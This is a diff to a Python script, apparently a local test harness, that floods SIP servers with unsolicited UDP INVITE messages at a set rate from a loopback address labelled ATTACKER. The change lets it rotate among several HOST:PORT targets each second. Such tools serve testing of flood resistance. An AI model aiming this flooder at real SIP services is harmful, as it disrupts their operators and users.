@@ -1,9 +1,13 @@
-"""A flood of INVITEs that nobody asked for: `python flood.py HOST PORT PER_SECOND SECONDS`, from 127.0.0.66."""
+"""A flood of INVITEs that nobody asked for: `python flood.py PER_SECOND SECONDS HOST:PORT...`, from 127.0.0.66.
+
+Each second the next HOST:PORT gets them. First it prints when it begins, in seconds since 1970.
+"""
 
 from __future__ import annotations
 
 import socket
 import sys
+import time
 
 import trio
 
@@ -22,18 +26,24 @@ Content-Length: 0\r
 """
 
 
-async def main(host: str, port: int, per_second: int, seconds: float) -> None:
+async def main(per_second: int, seconds: float, places: list[tuple[str, int]]) -> None:
     """Send them evenly, in batches of 10 ms."""
     begun, sent = trio.current_time(), 0
+    print(time.time(), flush=True)
     with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as ours:
         ours.bind((ATTACKER, 0))
         while (passed := trio.current_time() - begun) < seconds:
+            host, port = places[int(passed) % len(places)]
             for n in range(sent, int(passed * per_second)):
                 ours.sendto(INVITE.format(n=n, host=host, attacker=ATTACKER).encode(), (host, port))
             sent = max(sent, int(passed * per_second))
             await trio.sleep(0.01)
-    print(sent)
+
+
+def place(text: str) -> tuple[str, int]:
+    host, _, port = text.rpartition(":")
+    return host, int(port)
 
 
 if __name__ == "__main__":
-    trio.run(main, sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), float(sys.argv[4]))
+    trio.run(main, int(sys.argv[1]), float(sys.argv[2]), [place(text) for text in sys.argv[3:]])
